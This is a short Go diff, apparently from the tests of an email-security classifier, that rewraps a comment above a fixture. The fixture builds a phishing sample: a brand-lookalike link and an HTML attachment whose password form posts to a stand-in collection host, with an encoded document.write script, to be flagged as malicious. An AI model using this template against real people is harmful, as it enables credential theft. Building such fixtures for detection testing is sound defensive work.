@@ -10,7 +10,8 @@ import (
 	"clawback/verdict/history"
 )
 
-// sealed is a message with a page that asks for a password, and a link that bears a brand's name: MALICIOUS from anybody.
+// sealed is a message with a page that asks for a password, and a link that bears a brand's name: MALICIOUS from
+// anybody.
 func sealed(change string) string {
 	return attached(change, "You have received a secure message.\nhttps://paypal-help.example/x?u=bob.field@contoso.example", "securedoc.html", "text/html",
 		[]byte(`<html><form action="https://collect.example/x"><input type="password" name="pw"></form><script>document.write(atob("x"))</script></html>`))
